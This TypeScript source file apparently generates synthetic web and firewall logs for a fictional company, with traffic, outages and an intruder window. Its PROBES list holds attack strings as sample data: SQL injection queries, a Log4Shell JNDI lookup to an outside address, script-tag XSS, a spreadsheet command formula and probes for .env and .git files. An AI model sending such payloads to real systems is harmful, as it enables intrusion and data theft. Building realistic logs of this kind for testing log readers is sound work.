import { instanceNamed } from '#core/sample-organization/cast-instances.ts';
import { remoteHost } from '#core/sample-organization/cast-network.ts';
import { resourceOf } from '#core/sample-organization/cast-resources.ts';
import type { Random } from '#core/sample-organization/random.ts';
import type { Resource } from '#core/sample-organization/resource.ts';
import { hexText } from './id-text.ts';
import type { LogWorld } from './log-world.ts';
import { clientPort, customers, probers } from './remote-addresses.ts';

/** A site behind a load balancer. */
export type Site = {
  readonly balancer: Resource;
  readonly host: string;
  readonly targets: readonly string[];
  readonly targetPort: number;
  /** Percent of the company's requests. */
  readonly share: number;
  /** Whether a web ACL stands before it. */
  readonly hasFirewall: boolean;
  readonly paths: readonly string[];
};

/** One request, as the load balancer and the firewall before it both log it. */
export type WebRequest = {
  readonly at: number;
  readonly client: string;
  readonly country: string;
  readonly clientPort: number;
  readonly method: string;
  readonly path: string;
  readonly query: string;
  readonly agent: string;
  readonly trace: string;
  readonly target: string;
  /** What the firewall says against it; null lets it through. */
  readonly blockedBy:
    | 'SQLi_QUERYARGUMENTS'
    | 'NoUserAgent_HEADER'
    | 'rate-limit'
    | 'RestrictedExtensions_URIPATH'
    | null;
  /** Status of the target; null when it gave none. */
  readonly targetStatus: number | null;
  readonly status: number;
};

export const sites = {
  storefront: {
    balancer: resourceOf('alb/storefront-public'),
    host: 'www.example.com',
    targets: ['storefront-web-1', 'storefront-web-2'],
    targetPort: 80,
    share: 60,
    hasFirewall: true,
    paths: [
      '/',
      '/search',
      '/items/10482',
      '/items/22017',
      '/items/90311',
      '/cart',
      '/checkout',
      '/assets/app.js',
      '/assets/app.css',
      '/api/v1/recommendations',
      '/login',
      '/account/orders',
    ],
  },
  payments: {
    balancer: resourceOf('alb/payments-public'),
    host: 'payments.example.com',
    targets: ['payments-api-1', 'payments-api-2'],
    targetPort: 8443,
    share: 28,
    hasFirewall: false,
    paths: ['/v1/charges', '/v1/refunds', '/v1/tokens', '/v1/charges/ch_10002', '/webhooks/acquirer', '/health'],
  },
  staging: {
    balancer: resourceOf('alb/storefront-stg-public'),
    host: 'stg.example.com',
    targets: ['storefront-stg-web-1', 'storefront-stg-web-2'],
    targetPort: 3000,
    share: 12,
    hasFirewall: false,
    paths: ['/', '/search', '/cart', '/debug/vars', '/assets/app.js', '/login'],
  },
} as const satisfies Record<string, Site>;

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
];

// What strangers send to every site of the internet; readers of the logs must survive it.
const PROBES: readonly (readonly [path: string, query: string, agent: string, blockedBy: WebRequest['blockedBy']])[] = [
  ['/wp-login.php', '', 'Mozilla/5.0 zgrab/0.x', null],
  ['/.env', '', 'curl/8.5.0', 'RestrictedExtensions_URIPATH'],
  ['/.git/config', '', 'curl/8.5.0', 'RestrictedExtensions_URIPATH'],
  ['/search', 'q=1%27%20OR%20%271%27%3D%271', 'sqlmap/1.8#stable (https://sqlmap.example.org)', 'SQLi_QUERYARGUMENTS'],
  [
    '/items/10482',
    'id=1%20UNION%20SELECT%20NULL--',
    'sqlmap/1.8#stable (https://sqlmap.example.org)',
    'SQLi_QUERYARGUMENTS',
  ],
  ['/', '', '', 'NoUserAgent_HEADER'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the intruder's text.
  ['/', '', '${jndi:ldap://198.51.100.77/a}', null],
  ['/search', 'q=%3Cscript%3Ealert(1)%3C/script%3E', '<script>alert(1)</script>', null],
  ['/cgi-bin/luci/', '', '=cmd|calc!A1', null],
];

/** The requests of a site in the order of time, one a call; both logs of a site ask with the same moments. */
export function webRequests(world: LogWorld, site: Site): (at: number) => WebRequest {
  const random = world.random(`web|${site.host}`);
  const targets = site.targets.map((name) => `${instanceNamed(name).privateIp}:${site.targetPort}`);
  const trouble = troubleOf(world, site, targets);
  const intruder = intruderTimes(world, site);
  return (at) => {
    const seconds = Math.floor(at / 1000).toString(16);
    const trace = `Root=1-${seconds}-${hexText(random, 24)}`;
    const target = random.pick(targets);
    const turn = random.next();
    const isProbe = turn < 0.06 || (turn < 0.25 && intruder(at));
    const request = isProbe
      ? probe(random, at, trace, target, intruder(at))
      : visit(random, site, at, trace, target, trouble(at, target));
    if (site.hasFirewall || request.blockedBy === null) return request;
    return { ...request, blockedBy: null, targetStatus: 404, status: 404 };
  };
}

function visit(
  random: Random,
  site: Site,
  at: number,
  trace: string,
  target: string,
  trouble: number | null,
): WebRequest {
  const path = random.pick(site.paths);
  const isApi = path.startsWith('/v1') || path.startsWith('/webhooks');
  const method = isApi || path === '/checkout' || (path === '/login' && random.chance(0.5)) ? 'POST' : 'GET';
  const blockedBy = random.chance(0.004) ? 'rate-limit' : null;
  const own = random.chance(0.92) ? 200 : random.pick([301, 304, 401, 404, 404, 500]);
  const targetStatus = trouble === null ? own : null;
  return {
    at,
    client: random.pick(customers),
    country: random.chance(0.9) ? 'JP' : random.pick(['US', 'TW', 'KR', 'SG']),
    clientPort: clientPort(random),
    method,
    path,
    query: path === '/search' ? `q=item${random.between(1, 400)}` : '',
    agent: isApi ? 'example-mobile/4.12.1 (android; build 4121)' : random.pick(BROWSERS),
    trace,
    target,
    blockedBy,
    targetStatus: blockedBy === null ? targetStatus : null,
    status: blockedBy === null ? (trouble ?? own) : 403,
  };
}

function probe(random: Random, at: number, trace: string, target: string, byIntruder: boolean): WebRequest {
  const [path, query, agent, blockedBy] = random.pick(PROBES);
  const attacker = remoteHost('attacker');
  return {
    at,
    client: byIntruder ? attacker.ip : random.pick(probers),
    country: byIntruder ? attacker.countryCode : random.pick(['BR', 'VN', 'US', 'GB', 'IN']),
    clientPort: clientPort(random),
    method: 'GET',
    path,
    query,
    agent,
    trace,
    target,
    blockedBy,
    targetStatus: blockedBy === null ? 404 : null,
    status: blockedBy === null ? 404 : 403,
  };
}

/** What the load balancer answers in place of a target in trouble. */
function troubleOf(
  world: LogWorld,
  site: Site,
  targets: readonly string[],
): (at: number, target: string) => number | null {
  const opened = world.story.beat('ec2-issue/opened').at;
  const resolved = world.story.beat('ec2-issue/resolved').at;
  const patched = world.story.beat('rds-maintenance/carried-out');
  const impaired = site === sites.storefront ? targets[1] : site === sites.payments ? targets[0] : undefined;
  return (at, target) => {
    if (target === impaired && at >= opened && at < resolved) return 504;
    return site === sites.payments && at >= patched.at && at < patched.until && at % 5 < 2 ? 503 : null;
  };
}

function intruderTimes(world: LogWorld, site: Site): (at: number) => boolean {
  const from = world.story.beat('leaked-key/first-use').at;
  const until = world.story.beat('leaked-key/miner-stopped').until;
  return (at) => site === sites.payments && at >= from && at < until;
}
